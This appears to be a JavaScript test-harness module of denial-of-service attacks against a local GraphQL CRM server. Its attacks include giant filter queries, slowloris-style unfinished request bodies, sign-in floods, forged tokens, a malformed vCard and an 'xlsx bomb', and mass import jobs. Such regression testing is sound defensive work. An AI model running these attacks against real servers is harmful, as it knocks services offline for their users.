/**
 * The attacks. Each was found to stop the server or its users in November 2026; the numbers are those of the cases.
 *
 * @typedef {object} Context
 * @property {ReturnType<import('./client.mjs').createClient>} client
 * @property {number} port
 * @property {Record<string, string[]>} sessions tokens of users, by organization: `attacker`, `crowd`
 * @property {AbortSignal} signal
 * @property {(answer: object | string) => any} count notes an answer
 * @property {any} prepared
 */
import { connect } from 'node:net';
import { strToU8, zipSync } from 'fflate';
import { upload } from './client.mjs';

const ADDRESS = '203.0.113.1';

/** Runs a task again and again, `width` at a time, until the attack ends. */
const again = (signal, width, task) =>
  Promise.all(
    Array.from({ length: width }, async (_, lane) => {
      for (let turn = 0; !signal.aborted; turn++) {
        await task(turn * width + lane);
        // An attack that is refused at once must not make this process the bottleneck of the machine.
        await pause(2);
      }
    }),
  );
const pause = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
const ended = (signal) => new Promise((resolve) => (signal.aborted ? resolve() : signal.addEventListener('abort', resolve)));

const letters = (at) => at.toString(36).replace(/\d/g, (digit) => 'ghijklmnop'[digit]);

export const attacks = {
  conditions: {
    says: 'filters of 30,000 conditions in ever new shapes',
    run: ({ client, sessions, signal, count }) =>
      again(signal, 4, async (at) => {
        const fields = ['accountName', 'phone', 'website', 'industry'];
        const or = Array.from({ length: 30_000 }, (_, i) => ({
          [fields[(i * at + i) % 3]]: { [(i + at) % 2 ? 'eq' : 'contains']: `${i}` },
        }));
        const query = 'query ($filter: AccountFilter) { accounts(first: 1, filter: $filter) { nodes { id } } }';
        count(await client.ask({ token: sessions.attacker[0], query, variables: { filter: { or } }, address: ADDRESS }));
      }),
  },
  shapes: {
    says: 'documents and filters that are never the same, as large as they can be',
    run: ({ client, sessions, signal, count }) =>
      again(signal, 8, async (at) => {
        const fields = ['accountName', 'phone', 'website', 'fax', 'accountSite', 'tickerSymbol', 'description'];
        const or = Array.from({ length: 1 + (at % 120) }, (_, i) => ({
          [fields[(i * 7 + at) % 6]]: { [(i + at) % 2 ? 'eq' : 'startsWith']: `${i}` },
        }));
        const selection = fields.filter((_, i) => (at >> i) % 2).map((field, i) => `${letters(at + i)}: ${field}`);
        const query = `query Q${at}($filter: AccountFilter) { accounts(first: 1, filter: $filter) { nodes { id ${selection.join(' ')} } } }`;
        count(await client.ask({ token: sessions.attacker[at % 5], query, variables: { filter: { or } }, address: ADDRESS }));
      }),
  },
  documents: {
    says: 'small documents that are never the same, as many as go through',
    // For the memory after a hundred thousand of them: --attack documents --seconds 600.
    isExtra: true,
    run: ({ client, sessions, signal, count }) =>
      again(signal, 8, async (at) => {
        const fields = ['accountName', 'phone', 'website', 'fax', 'accountSite', 'tickerSymbol', 'description', 'industry'];
        const selection = fields.filter((_, i) => (at >> i) % 2).map((field) => `${letters(at)}: ${field}`.replace(':', `${field}:`));
        const filter = `{ ${fields[at % 7]}: { ${at % 3 ? 'eq' : 'startsWith'}: "${at}" } }`;
        const query = `query Q${at} { accounts(first: ${1 + (at % 50)}, filter: ${filter}) { nodes { id ${selection.join(' ')} } } }`;
        count(await client.ask({ token: sessions.attacker[at % 5], query, address: ADDRESS }));
      }),
  },
  slow: {
    says: 'statements that read a whole large table for each of 100 conditions, twelve at a time, in ever new shapes',
    run: ({ client, sessions, signal, count }) =>
      again(signal, 12, async (at) => {
        const contains = (i) => `${letters(i + at)}${'ab'.repeat(100)}`;
        const or = Array.from({ length: 60 + (at % 40) }, (_, i) => ({ [i % 2 ? 'accountName' : 'website']: { contains: contains(i) } }));
        const query = `query S${at % 50}($filter: AccountFilter) { accounts(first: 1, filter: $filter) { totalCount } }`;
        count(await client.ask({ token: sessions.attacker[at % 5], query, variables: { filter: { or } }, address: ADDRESS }));
      }),
  },
  operands: {
    says: 'operands of 200 kB, twelve at a time',
    run: ({ client, sessions, signal, count }) =>
      again(signal, 12, async (at) => {
        const filter = { accountName: { contains: 'x%_'.repeat(66_000) + at } };
        const query = 'query ($filter: AccountFilter) { accounts(first: 1, filter: $filter) { nodes { id } } }';
        count(await client.ask({ token: sessions.attacker[at % 5], query, variables: { filter }, address: ADDRESS }));
      }),
  },
  bodies: {
    says: '400 connections without sign-in, each with an unfinished body of 3.9 MB',
    run: ({ port, signal, count }) =>
      holdOpen({
        port,
        signal,
        count,
        connections: 400,
        length: 3_900_000,
        chunk: Buffer.alloc(64 * 1024, 0x20),
        everyMs: 50,
        stopAfter: 3_800_000,
      }),
  },
  dripping: {
    says: '100 connections with a byte of the body at a time',
    run: ({ port, signal, count }) =>
      holdOpen({ port, signal, count, connections: 100, length: 60_000, chunk: Buffer.from(' '), everyMs: 500, stopAfter: 60_000 }),
  },
  signIns: {
    says: '500 sign-ins at once for 500 accounts from one address',
    run: ({ client, signal, count }) =>
      again(signal, 500, async (at) => {
        const query = 'mutation ($email: String!, $password: String!) { signIn(email: $email, password: $password) { token } }';
        count(await client.ask({ query, variables: { email: `nobody${at}@example.com`, password: 'a wrong password' }, address: ADDRESS }));
        await pause(200);
      }),
  },
  tokens: {
    says: 'made-up tokens and API keys, and requests that are no HTTP',
    run: ({ client, port, signal, count }) =>
      again(signal, 8, async (at) => {
        const token = at % 2 ? `relata_${letters(at)}${'x'.repeat(40)}` : `${'e'.repeat(30)}.${letters(at)}.${'s'.repeat(43)}`;
        count(await client.ask({ token, query: '{ __typename }', address: ADDRESS }));
        if (at % 10 === 0) await garbage(port);
      }),
  },
  cards: {
    says: 'a vCard of 1.9 MB with 480,000 parameters, looked into and imported',
    async prepare({ client, sessions }) {
      const card = Buffer.from(`BEGIN:VCARD\r\nVERSION:3.0\r\nN:Doe;Jane\r\nTEL${';X=a'.repeat(480_000)}:1\r\nEND:VCARD\r\n`);
      return upload(client, { token: sessions.attacker[0], address: ADDRESS }, 'bomb.vcf', 'text/vcard', card);
    },
    run: (context) => lookAndImport(context, 'Contact'),
  },
  sheets: {
    says: 'sheets of 1 kB with a cell 1e100000000, looked into and imported',
    prepare: ({ client, sessions }) =>
      upload(
        client,
        { token: sessions.attacker[0], address: ADDRESS },
        'bomb.xlsx',
        'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
        sheetBomb(),
      ),
    run: (context) => lookAndImport(context, 'Account'),
  },
  previews: {
    says: 'a preview of 60 MB of empty lines, fifteen times in a request',
    prepare: ({ client, sessions }) =>
      upload(
        client,
        { token: sessions.attacker[0], address: ADDRESS },
        'lines.csv',
        'text/csv',
        Buffer.concat([Buffer.from('Account Name,Phone'), Buffer.alloc(60_000_000, '\n')]),
      ),
    run: ({ client, sessions, signal, count, prepared }) =>
      again(signal, 2, async () => {
        const aliases = Array.from(
          { length: 15 },
          (_, i) => `a${i}: previewImport(file: { fileId: "${prepared}", module: "Account" }) { format }`,
        );
        count(await client.ask({ token: sessions.attacker[0], query: `{ ${aliases.join(' ')} }`, address: ADDRESS }));
      }),
  },
  introspection: {
    says: 'introspection of the whole schema, ever different, four at a time',
    run: ({ client, sessions, signal, count }) =>
      again(signal, 4, async (at) => {
        const type = 'name kind ofType { name kind ofType { name kind ofType { name kind } } }';
        const query = `{ __schema { types { ${letters(at)}: name kind description fields { name description args { name type { ${type} } } type { ${type} } } inputFields { name description type { ${type} } } enumValues { name description } } } }`;
        count(await client.ask({ token: sessions.attacker[at % 5], query, address: ADDRESS }));
      }),
  },
  quotes: {
    says: '500 quotes at once, one in ten with 150 lines',
    async prepare({ client, sessions }) {
      const [token] = sessions.attacker;
      const { data: made } = await client.ask({
        token,
        query: 'mutation { createProduct(input: { productName: "Siege", unitPrice: "9.50" }) { product { id } } }',
      });
      const { data: found } = await client.ask({ token, query: '{ accounts(first: 1) { nodes { id } } }' });
      return { productId: made.createProduct.product.id, accountId: found.accounts.nodes[0].id };
    },
    run: ({ client, sessions, signal, count, prepared: { productId, accountId } }) =>
      again(signal, 500, async (at) => {
        const lineItems = Array.from({ length: at % 10 === 0 ? 150 : 2 }, () => ({ productId, quantity: '3' }));
        const query = 'mutation ($input: QuoteCreateInput!) { createQuote(input: $input) { quote { id } } }';
        count(
          await client.ask({
            token: sessions.attacker[at % 5],
            query,
            variables: { input: { subject: `Quote ${at}`, accountId, lineItems: { create: lineItems } } },
            address: ADDRESS,
          }),
        );
        await pause(100);
      }),
  },
  imports: {
    // The last of them: its jobs go on behind it.
    says: '12 imports of 20,000 rows',
    async prepare({ client, sessions }) {
      const rows = Array.from({ length: 20_000 }, (_, i) => `Company ${i},030 ${i},${i}.50`);
      const csv = Buffer.from(`Account Name,Phone,Annual Revenue\n${rows.join('\n')}\n`);
      const files = [];
      for (let i = 0; i < 12; i++)
        files.push(await upload(client, { token: sessions.attacker[0], address: ADDRESS }, `${i}.csv`, 'text/csv', csv));
      return { files, jobs: [] };
    },
    async run({ client, sessions, signal, count, prepared: { files, jobs } }) {
      for (const fileId of files) {
        const query = 'mutation ($fileId: ID!) { startImport(files: [{ fileId: $fileId, module: "Account" }]) { job { id } } }';
        const { data } = count(await client.ask({ token: sessions.attacker[0], query, variables: { fileId }, address: ADDRESS }));
        if (data) jobs.push(data.startImport.job.id);
      }
      await ended(signal);
    },
    async end({ client, sessions, prepared: { jobs } }) {
      for (const id of jobs)
        await client.ask({
          token: sessions.attacker[0],
          query: 'mutation ($id: ID!) { cancelJob(id: $id) { job { state } } }',
          variables: { id },
          address: ADDRESS,
        });
    },
  },
};

/** Opens connections, sends the head of a request and parts of its body, and never the end. */
async function holdOpen({ port, signal, count, connections, length, chunk, everyMs, stopAfter }) {
  const sockets = new Set();
  const open = () => {
    const socket = connect({ port, host: '127.0.0.1' });
    sockets.add(socket);
    let sent = 0;
    let answer = '';
    socket.on('connect', () => {
      socket.write(
        `POST /graphql HTTP/1.1\r\nhost: 127.0.0.1:${port}\r\nx-forwarded-for: ${ADDRESS}\r\ncontent-type: application/json\r\ncontent-length: ${length}\r\n\r\n`,
      );
    });
    const timer = setInterval(() => {
      if (sent >= stopAfter || !socket.writable) return;
      sent += chunk.length;
      socket.write(chunk);
    }, everyMs);
    socket.on('data', (data) => (answer = (answer + data.toString('latin1')).slice(0, 4000)));
    socket.on('error', () => undefined);
    socket.on('close', () => {
      clearInterval(timer);
      sockets.delete(socket);
      count(/"code":"(\w+)"/.exec(answer)?.[1] ?? /^HTTP\/1\.1 (\d+)/.exec(answer)?.[1] ?? 'closed');
    });
  };
  while (!signal.aborted) {
    for (let i = 0; i < 20 && sockets.size < connections; i++) open();
    await pause(50);
  }
  for (const socket of sockets) socket.destroy();
}

const garbage = (port) =>
  new Promise((resolve) => {
    const socket = connect({ port, host: '127.0.0.1' }, () => socket.end('\x16\x03\x01 no HTTP at all\r\n\r\n'));
    socket.on('error', () => undefined);
    socket.on('data', () => undefined);
    socket.on('close', resolve);
  });

async function lookAndImport({ client, sessions, signal, count, prepared: fileId }, module) {
  const preview = `query ($file: ImportInput!) { previewImport(file: $file) { format } }`;
  const start = 'mutation ($file: ImportInput!) { startImport(files: [$file]) { job { id } } }';
  await again(signal, 3, async (at) => {
    const query = at % 3 === 0 ? start : preview;
    count(await client.ask({ token: sessions.attacker[0], query, variables: { file: { fileId, module } }, address: ADDRESS }));
    await pause(100);
  });
}

/** A workbook of one sheet whose cells are numbers with huge exponents. */
function sheetBomb() {
  const main = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
  const rel = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
  const pack = 'http://schemas.openxmlformats.org/package/2006';
  const xml = '<?xml version="1.0" encoding="UTF-8"?>';
  const files = {
    '[Content_Types].xml': `${xml}<Types xmlns="${pack}/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/></Types>`,
    '_rels/.rels': `${xml}<Relationships xmlns="${pack}/relationships"><Relationship Id="rId1" Type="${rel}/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
    'xl/workbook.xml': `${xml}<workbook xmlns="${main}" xmlns:r="${rel}"><sheets><sheet name="A" sheetId="1" r:id="rId1"/></sheets></workbook>`,
    'xl/_rels/workbook.xml.rels': `${xml}<Relationships xmlns="${pack}/relationships"><Relationship Id="rId1" Type="${rel}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`,
    'xl/worksheets/sheet1.xml': `${xml}<worksheet xmlns="${main}"><sheetData><row r="1"><c r="A1" t="str"><v>Account Name</v></c><c r="B1" t="str"><v>Annual Revenue</v></c></row><row r="2"><c r="A2" t="str"><v>Bomb</v></c><c r="B2"><v>1e100000000</v></c></row></sheetData></worksheet>`,
  };
  return Buffer.from(zipSync(Object.fromEntries(Object.entries(files).map(([name, text]) => [name, strToU8(text)]))));
}
